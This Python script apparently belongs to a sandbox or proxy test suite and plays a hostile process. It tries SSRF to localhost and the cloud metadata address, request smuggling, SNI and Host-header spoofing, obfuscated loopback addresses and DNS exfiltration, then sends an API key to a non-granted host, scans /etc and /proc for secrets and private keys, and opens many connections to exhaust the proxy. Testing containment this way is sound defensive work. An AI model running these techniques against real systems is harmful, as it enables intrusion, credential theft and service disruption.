"""Attempts of a hostile script with granted hosts: to reach others, and to learn a masked secret. Runs like attempts.py."""
# mypy: ignore-errors
# ruff: noqa: T201
# A standalone script that runs without metier, so it is not typed.

import json
import os
import socket
import ssl
import struct
import sys
import threading

from attempts import read, tried

PROXY = ("127.0.0.1", 3128)
TOKEN = b"escaped"


def say(data, *, more=b"", address=PROXY):
    """Sends bytes to the proxy and returns the first line of its answer. `more` follows an accepted CONNECT."""
    with socket.create_connection(address, timeout=20) as link:
        link.sendall(data)
        head = b""
        while b"\r\n\r\n" not in head and (part := link.recv(4096)):
            head += part
        if more and b" 200 " in head:
            link.sendall(more)
            link.settimeout(20)
            try:
                head += link.recv(4096)
            except OSError:
                pass
        return head.split(b"\r\n")[0].decode("latin-1")


def connect_to(authority, more=TOKEN):
    return tried(say, b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\n\r\n", more=more)


def plain(target, host, *extra):
    lines = [b"GET " + target + b" HTTP/1.1", b"Host: " + host, *extra, b"X-Token: " + TOKEN, b"", b""]
    return b"\r\n".join(lines)


def e70(facts):
    port = str(facts["port"]).encode()
    found = {}
    for name in (b"127.0.0.1", b"localhost", b"[::1]", b"0.0.0.0", b"169.254.169.254", b"LOCALHOST."):
        place = name + b":" + port
        found[f"connect {name.decode()}"] = connect_to(place)
        found[f"url {name.decode()}"] = tried(say, plain(b"http://" + place + b"/", place))
        found[f"origin {name.decode()}"] = tried(say, plain(b"/", place), address=("127.0.0.1", 80))
    found["direct"] = tried(socket.create_connection, ("127.0.0.1", facts["port"]), 5)
    return found


def hello(name):
    context = ssl._create_unverified_context()
    out = ssl.MemoryBIO()
    link = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        link.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read() + TOKEN


def e71(facts):
    granted, other = facts["granted"].encode(), facts["other"].encode()
    name = granted.partition(b":")[0]
    post = b"POST / HTTP/1.1\r\nHost: " + granted + b"\r\n"
    return {
        "connect": connect_to(other),
        "url": tried(say, plain(b"http://" + other + b"/", granted)),
        "host in a tunnel": connect_to(granted, plain(b"/", other)),
        "second request": tried(say, plain(b"http://" + granted + b"/", granted) + plain(b"http://" + other + b"/", granted)),
        "sni": connect_to(granted, hello("other.example")),
        "no sni": connect_to(granted, hello(None)),
        "transparent sni": tried(say, hello("other.example"), address=("127.0.0.1", 443)),
        "two hosts": tried(say, plain(b"/", granted, b"Host: " + other), address=("127.0.0.1", 80)),
        "smuggled": tried(say, post + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + plain(b"/", other)),
        "early": tried(say, b"CONNECT " + granted + b" HTTP/1.1\r\nHost: " + name + b"\r\n\r\n" + plain(b"/", other)),
        "https url": tried(say, plain(b"https://" + other + b"/", other)),
        "credentials": tried(say, plain(b"http://" + granted + b"@" + other + b"/", granted)),
    }


def e72(facts):
    port = str(facts["port"]).encode()
    names = [b"2130706433", b"0x7f000001", b"0177.0.0.1", b"127.1", b"127.0.0.1.", b"[::ffff:127.0.0.1]", b"[::ffff:7f00:1]",
             b"[64:ff9b::7f00:1]", b"example.com\x00.localhost", b"localhost\x00.example.com", b"example.com%00.localhost",
             b"localhost#.example.com", b"localhost\\.example.com", b"x@localhost", b"*.example.com", b"",
             b"\xef\xbd\x8cocalhost"]  # fmt: skip
    found = {}
    for number, name in enumerate(names):
        place = name + b":" + port
        found[f"connect {number}"] = connect_to(place)
        found[f"url {number}"] = tried(say, plain(b"http://" + place + b"/", b"example.com"))
        found[f"host {number}"] = tried(say, plain(b"/", place), address=("127.0.0.1", 80))
    return found


def e73(facts):
    place = facts["granted"].encode()
    return {
        "connect": connect_to(place),
        "url": tried(say, plain(b"http://" + place + b"/", place)),
        "again": connect_to(place),
    }


def ask(name, address, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(5)
        link.sendto(query, address)
        reply = link.recv(512)
        return f"code {reply[3] & 15}"


def e74(facts):
    name = f"{facts['nonce']}.example.org"
    found = {f"type {kind}": tried(ask, name, ("127.0.0.1", 53), kind) for kind in (1, 16, 28, 255)}
    found["libc"] = tried(socket.getaddrinfo, name, 443)
    found["outside"] = tried(ask, name, ("8.8.8.8", 53))
    found["below a granted name"] = tried(ask, f"{facts['nonce']}.example.com", ("127.0.0.1", 53))
    return found


def open_socket(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()


def send_datagram(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(TOKEN, address)


def e75(facts):
    inet, stream, datagram = socket.AF_INET, socket.SOCK_STREAM, socket.SOCK_DGRAM
    kinds = {
        "raw": (inet, socket.SOCK_RAW, 1), "ping": (inet, datagram, 1), "mptcp": (inet, stream, 262),
        "sctp": (inet, stream, 132), "netlink": (16, socket.SOCK_RAW), "unix": (socket.AF_UNIX, stream),
        "packet": (17, socket.SOCK_RAW), "vsock": (40, stream),
    }  # fmt: skip
    found = {name: tried(open_socket, *kind) for name, kind in kinds.items()}
    found["datagram outside"] = tried(send_datagram, ("192.0.2.1", 53))
    found["stream outside"] = tried(socket.create_connection, ("192.0.2.1", 80), 5)
    return found


def e75_datagram(facts):
    """In a namespace of its own the datagram is lost, and nothing says so."""
    return {"sent": tried(send_datagram, ("127.0.0.1", facts["udp"]))}


def readable_text():
    """Everything small that this process can read in places where a secret could lie."""
    for top in ("/run", "/etc", "/tmp", "/proc/self", "/proc/1", "/dev/shm"):
        for here, folders, files in os.walk(top):
            folders[:] = [
                name for name in folders if name not in ("task", "fd", "map_files", "net", "ssl", "alternatives", "fonts")
            ]
            for name in files:
                if name in ("mem", "pagemap", "clear_refs", "kmsg"):
                    continue
                try:
                    with open(os.path.join(here, name), "rb") as file:
                        yield file.read(1 << 20)
                except OSError:
                    continue


def e76(facts):
    granted, other = facts["granted"].encode(), facts["other"].encode()
    key = os.environ["API_KEY"].encode()
    sent = {
        "granted": tried(say, plain(b"http://" + granted + b"/", granted, b"X-Key: " + key)),
        "other": tried(say, plain(b"http://" + other + b"/", other, b"X-Key: " + key)),
        "query": tried(say, plain(b"http://" + granted + b"/?" + key, granted)),
    }
    return {
        **sent,
        "variable": key.decode(),
        "readable": b"\n".join(readable_text()).decode("latin-1").count(facts["reversed"][::-1]),
    }


def e77(facts):
    text = b"\n".join(readable_text())
    return {"private keys": text.count(b" ".join((b"PRIVATE", b"KEY"))), "certificates": text.count(b"BEGIN CERTIFICATE") > 0,
            "memory": tried(read, f"/proc/{facts['host']}/mem")}  # fmt: skip


def e79(facts):
    """Opens more connections than there may be, leaves them open, and ends."""
    links = []
    for _ in range(200):
        try:
            link = socket.create_connection(PROXY, 5)
            link.sendall(b"CONNECT ")
            links.append(link)
        except OSError:
            break
    threading.Event().wait(0.5)
    print(json.dumps({"opened": len(links)}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    found = globals()[sys.argv[1]](json.loads(sys.argv[2]))
    if found is not None:
        print(json.dumps(found))
